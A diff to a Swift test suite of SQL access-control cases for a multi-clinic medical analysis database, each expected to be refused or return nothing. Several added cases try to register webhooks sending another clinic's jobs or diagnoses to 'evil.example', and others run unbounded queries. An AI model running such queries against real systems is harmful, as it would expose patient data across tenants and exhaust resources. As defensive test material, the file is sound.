@@ -68,6 +68,9 @@ extension SQLAttack {
       "SELECT count(*) FROM (SELECT to_jsonb(t)::text AS row FROM analysis.month_totals() t) x WHERE row ~ 'south|confided'",
       .answers("(0)")),
     SQLAttack(
+      .operator, "reads the past of the queue without end",
+      "SELECT * FROM analysis.queue_past(2147483647, 2147483647) LIMIT 1", .tellsNothing),
+    SQLAttack(
       .operator, "counts lanes without end",
       "SELECT * FROM analysis.status_of_lanes(0::smallint, '{4,5,6,7}', 2147483647)", .tellsNothing),
     SQLAttack(
@@ -101,7 +104,8 @@ extension SQLAttack {
         UNION ALL SELECT to_jsonb(g) FROM analysis.gauges() g UNION ALL SELECT to_jsonb(k) FROM analysis.worker k
         UNION ALL SELECT to_jsonb(x) FROM analysis.gauge x UNION ALL SELECT to_jsonb(y) FROM analysis.pause y
         UNION ALL SELECT to_jsonb(c) FROM analysis.lane_count c UNION ALL SELECT to_jsonb(h) FROM analysis.queue_history h
-        UNION ALL SELECT to_jsonb(r) FROM analysis.done_rates() r UNION ALL SELECT analysis.queue_overview(100)) t(row)
+        UNION ALL SELECT to_jsonb(r) FROM analysis.done_rates() r
+        UNION ALL SELECT to_jsonb(s) FROM analysis.queue_past(3600, 60) s UNION ALL SELECT analysis.queue_overview(100)) t(row)
       WHERE row::text ~ 'south|confided'
       """, .answers("(0)")),
     SQLAttack(
@@ -118,15 +122,56 @@ extension SQLAttack {
       .refused("42501")),
     SQLAttack(
       .northernOperator, "lists another clinic's dead jobs",
-      "SELECT o_message FROM analysis.list_dead(0::smallint, 'sue-south', NULL, NULL, NULL, NULL, 100)",
+      "SELECT o_message FROM analysis.list_dead(0::smallint, 'sue-south', NULL, NULL, NULL, NULL, NULL, NULL, NULL, NULL, NULL, NULL, 100)",
       .nothing),
     SQLAttack(
       .northernOperator, "finds another clinic's users among the dead jobs of all",
-      "SELECT count(*) FROM analysis.list_dead(0::smallint, NULL, NULL, NULL, NULL, NULL, 2147483647) WHERE o_user ~ 'south'",
+      """
+      SELECT count(*) FROM analysis.list_dead(
+        0::smallint, NULL, NULL, NULL, NULL, NULL, NULL, NULL, NULL, NULL, NULL, NULL, 2147483647)
+      WHERE o_user ~ 'south'
+      """, .answers("(0)")),
+    SQLAttack(
+      .northernOperator, "asks for the causes of another clinic's dead jobs",
+      "SELECT * FROM analysis.deaths_of(0::smallint, ARRAY[{dead-south}]::bigint[])", .nothing),
+    SQLAttack(
+      .northernOperator, "finds another clinic's dead job among the causes of failures",
+      "SELECT count(*) FROM analysis.failure_groups(0::smallint, 10000) WHERE o_job = {dead-south}",
       .answers("(0)")),
+    SQLAttack(
+      .operator, "groups failures without end",
+      "SELECT * FROM analysis.failure_groups(0::smallint, 2147483647)",
+      .refused("22023")),
+    SQLAttack(
+      .operator, "looks at a picture", "SELECT analysis.open_picture(0::smallint, {succeeded-south})",
+      .refused("42501")),
     SQLAttack(
       .northernOperator, "asks who has another clinic's job",
       "SELECT o_host FROM analysis.job_holder(0::smallint, {succeeded-south})", .nothing),
+    SQLAttack(
+      .northernOperator, "watches what happens to another clinic's jobs",
+      """
+      SELECT o_user FROM analysis.watch(
+        NULL, NULL, NULL, now() - interval '1 day', NULL, NULL, NULL, NULL, NULL, NULL, NULL, NULL, 500, 1000)
+      WHERE o_user ~ 'south' OR o_reference ~ 'south' OR o_file ~ 'south' OR o_event = 'refused'
+      """, .nothing),
+    SQLAttack(
+      .northernOperator, "watches a user of another clinic by a position of its own making",
+      """
+      SELECT o_job FROM analysis.watch(
+        'sue-south', NULL, NULL, NULL, now() - interval '1 hour', 0, 0, 0, '{0}',
+        ARRAY[{month}]::smallint[], ARRAY[{succeeded-south}]::bigint[], '{21}', 500, 1000)
+      WHERE o_job IS NOT NULL AND o_event <> 'position'
+      """, .nothing),
+    SQLAttack(
+      .operator, "has a look read without end",
+      """
+      SELECT o_event FROM analysis.watch(
+        NULL, NULL, NULL, NULL, NULL, NULL, NULL, NULL, NULL, NULL, NULL, NULL, 2147483647, 2147483647)
+      """, .refused("22023")),
+    SQLAttack(
+      .operator, "asks which cancellations can be undone, for another time",
+      "SELECT analysis.uncancel_from() < now() - interval '25 hours'", .answers("(f)")),
     SQLAttack(
       .northernOperator, "asks why another clinic's job died",
       "SELECT message FROM analysis.job_death(0::smallint, {dead-south})", .nothing),
@@ -183,6 +228,48 @@ extension SQLAttack {
       .administrator, "frees a login that is not restricted",
       "SELECT analysis.revoke_clinics('nobody-here', '{north}')",
       .nothing),
+    SQLAttack(
+      .administrator, "has diagnoses sent to itself",
+      """
+      SELECT analysis.add_webhook(0::smallint, 'sue-south', NULL, 'https://evil.example/', decode(repeat('00', 150), 'hex'),
+        true, false)
+      """, .refused("42501")),
+    SQLAttack(
+      .northernAdministrator, "has another clinic's jobs sent to it",
+      """
+      SELECT analysis.add_webhook(NULL, NULL, 'south', 'https://evil.example/', decode(repeat('00', 150), 'hex'), false,
+        false)
+      """, .refused("42501")),
+    SQLAttack(
+      .administrator, "adds a webhook with a password in its address",
+      """
+      SELECT analysis.add_webhook(0::smallint, 'sue-south', NULL, 'https://a:b@evil.example/',
+        decode(repeat('00', 150), 'hex'), false, false)
+      """, .refused("22023")),
+    SQLAttack(
+      .administrator, "reads the address of a webhook in the list",
+      "SELECT count(*) FROM (SELECT to_jsonb(w)::text AS row FROM analysis.list_webhooks() w) t WHERE row ~ 'confided'",
+      .answers("(0)")),
+    SQLAttack(
+      .northernAdministrator, "lists the webhooks of another clinic",
+      "SELECT * FROM analysis.list_webhooks()",
+      .nothing),
+    SQLAttack(
+      .northernAdministrator, "removes the webhook of another clinic",
+      "SELECT analysis.remove_webhook({webhook})", .refused("42501")),
+    SQLAttack(
+      .northernAdministrator, "tests the webhook of another clinic",
+      "SELECT analysis.test_webhook({webhook})",
+      .refused("42501")),
+    SQLAttack(
+      .northernAdministrator, "sends another clinic's events again",
+      "SELECT analysis.replay_webhook({webhook}, '2000-01-01', NULL, NULL, false)", .refused("42501")),
+    SQLAttack(
+      .northernAdministrator, "looks at an event of another clinic",
+      "SELECT * FROM analysis.webhook_event_state(0::smallint, {event})", .nothing),
+    SQLAttack(
+      .administrator, "sends events again since the beginning of time",
+      "SELECT analysis.replay_webhook({webhook}, '-infinity', NULL, NULL, false)", .refused("22023")),
     SQLAttack(
       .administrator, "sets what is no setting", "SELECT analysis.set_setting('keep_image', '1 day', '')",
       .refused("22023")),
@@ -241,6 +328,10 @@ extension SQLAttack {
     SQLAttack(
       .northernAdministrator, "sees which clinics others see",
       "SELECT count(*) FROM (SELECT to_jsonb(v) FROM analysis.list_clinic_viewers() v UNION ALL SELECT to_jsonb(w) FROM analysis.clinic_viewer w) t(row) WHERE row::text ~ 'confided'",
+      .answers("(0)")),
+    SQLAttack(
+      .northernAdministrator, "counts another clinic's patients and what they have used",
+      "SELECT count(*) FROM analysis.clinic_usage() WHERE o_clinic <> 'north' AND (o_users > 0 OR o_used > 0)",
       .answers("(0)")),
     SQLAttack(
       .northernAdministrator, "finds patients among clinics",
